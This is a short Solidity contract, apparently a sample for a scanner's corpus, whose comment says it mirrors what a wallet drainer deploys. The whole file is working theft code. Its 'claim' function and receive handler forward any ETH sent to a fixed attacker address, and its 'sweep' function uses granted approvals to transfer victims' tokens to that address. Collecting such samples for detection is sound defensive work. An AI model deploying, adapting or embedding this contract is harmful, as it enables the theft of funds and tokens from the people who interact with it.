// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// What a wallet drainer deploys for the scan corpus: a "claim" that takes the caller's ETH and forwards it
/// to the attacker's fresh address. Approvals granted to it let `sweep` move tokens the same way.
contract ScanDrainer {
    address payable public immutable beneficiary;

    constructor(address payable beneficiary_) {
        beneficiary = beneficiary_;
    }

    function claim() external payable {
        (bool sent,) = beneficiary.call{value: msg.value}("");
        require(sent, "forward failed");
    }

    function sweep(address token, address from, uint256 value) external {
        (bool ok,) = token.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", from, beneficiary, value));
        require(ok, "sweep failed");
    }

    receive() external payable {
        (bool sent,) = beneficiary.call{value: msg.value}("");
        require(sent, "forward failed");
    }
}
